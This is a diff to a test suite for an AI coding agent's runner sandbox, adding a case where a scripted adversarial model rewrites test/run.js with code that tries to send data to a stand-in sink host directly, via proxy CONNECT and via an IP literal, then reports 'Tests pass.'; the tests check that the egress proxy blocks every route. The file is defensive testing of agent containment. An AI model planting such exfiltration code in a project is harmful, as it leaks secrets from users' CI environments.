@@ -7,6 +7,7 @@
 //   3. a non-root user with passwordless sudo, HOME=/home/runner (GitHub-hosted shape) → level user
 //   4. a non-root user without sudo (typical self-hosted) → level namespace
 //   5. as 4, with user namespaces unavailable → every command refused; with the policy's opt-in, run and flagged
+//   6. as 4, with a `network` allow-list (issue 23) → the egress proxy is the only way out of the namespace
 // How 5 is made: the action runs in a child user namespace (identity-mapped, so uids look the same) whose root
 // first writes 0 to /proc/sys/user/max_user_namespaces. That limit is per user namespace and binds only its
 // descendants: the kernel itself refuses the action's `unshare --user` (ENOSPC), and the machine's global
@@ -245,6 +246,69 @@ describe.skipIf(skipWhy !== "")("runner configurations: secrets out of the agent
       });
     });
   }
+
+  describe("6. non-root without sudo, network allow-list (issue 23's egress on the namespace level)", () => {
+    let world: AdversaryWorld;
+    let run: AttackRun;
+    let user: RunnerUser;
+    let cleanup = "";
+    // Each way out a test file could try: the sink directly (the host's loopback), a blocked name through the
+    // proxy (CONNECT), and the sink's address through the proxy (an IP literal).
+    const exfil = (sinkUrl: string) => `const http = require("http");
+const proxy = new URL(process.env.HTTPS_PROXY);
+const sink = new URL(${JSON.stringify(`${"$"}{SINK}/collect`)}.replace("${"$"}{SINK}", ${JSON.stringify(sinkUrl)}));
+const say = (k, v) => console.log(k + " " + v);
+fetch(sink, { method: "POST", body: "direct" }).then((r) => say("direct", r.status), (e) => say("direct", "failed " + (e.cause?.code ?? e.message)));
+http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "sink.test:443" })
+  .on("connect", (r) => say("connect", r.statusCode)).on("error", (e) => say("connect", "error " + e.code)).end();
+http.request({ host: proxy.hostname, port: proxy.port, method: "POST", path: sink.href })
+  .on("response", (r) => say("literal", r.statusCode)).on("error", (e) => say("literal", "error " + e.code)).end("literal");
+`;
+
+    beforeAll(async () => {
+      user = createUser(false);
+      const policy = `${JSON.stringify({ version: 1, bash: { allow: ["cat *", "npm test"] }, network: { allow: ["registry.test"] } }, null, 2)}\n`;
+      world = await startAdversary({ files: nodeProject(POLICY, { ".github/agent-policy.yml": policy }) });
+      world.model.push(
+        { tools: [{ id: "toolu_read", name: "read_file", input: { path: "test/run.js" } }] },
+        { tools: [{ id: "toolu_write", name: "write_file", input: { path: "test/run.js", content: exfil(world.sink.url) } }] },
+        { tools: [{ id: "toolu_npm_test", name: "bash", input: { command: "npm test" } }, { id: "toolu_netdev", name: "bash", input: { command: "cat /proc/net/dev" } }] },
+        { text: "Tests pass." },
+      );
+      const trigger = issueTrigger(world, "/agent run the tests");
+      run = await runAttack(world, { eventName: "issue_comment", payload: trigger.payload, credentials: "extraheader", user: { uid: user.uid, gid: user.gid }, env: { HOME: user.home, USER: user.name } });
+      cleanup = deletableBy(user.uid, user.gid, run);
+    }, 180_000);
+    afterAll(async () => {
+      await world?.close();
+      user?.remove();
+    });
+
+    it("the commands run at the namespace level, with only loopback and the proxy as the way out", () => {
+      expect(run.code, run.stdout + run.stderr).toBe(0);
+      expect(world.gh.issueComments(REPO, 1).at(-1)?.body).toMatch(/\| namespace \(commands ran as the runner user in their own user, PID and mount namespaces without network/);
+      const ex = toolExchanges(world.model);
+      const interfaces = (ex.get("toolu_netdev")?.result ?? "").split("\n").slice(2).map((l) => l.trim().split(":")[0]).filter((n) => /^\w+$/.test(n));
+      expect(interfaces).toEqual(["lo"]);
+      const out = ex.get("toolu_npm_test")?.result ?? "";
+      expect(out).toMatch(/direct failed/);
+      expect(out).toMatch(/connect 403/);
+      expect(out).toMatch(/literal 403/);
+      expect(world.sink.requests).toHaveLength(0);
+    });
+
+    it("the comment and the job summary name the rule and the blocked host with its command", () => {
+      const comment = world.gh.issueComments(REPO, 1).at(-1)?.body ?? "";
+      for (const text of [comment, run.summary]) {
+        expect(text).toContain("**Network:** allow-list through the proxy: `registry.test`");
+        expect(text).toMatch(/`sink\.test:443` by `npm test`/);
+      }
+    });
+
+    it("the runner's user can delete RUNNER_TEMP and the workspace afterwards", () => {
+      expect(cleanup).toBe("deleted");
+    });
+  });
 
   describe("5. non-root without sudo, user namespaces unavailable", () => {
     let world: AdversaryWorld;
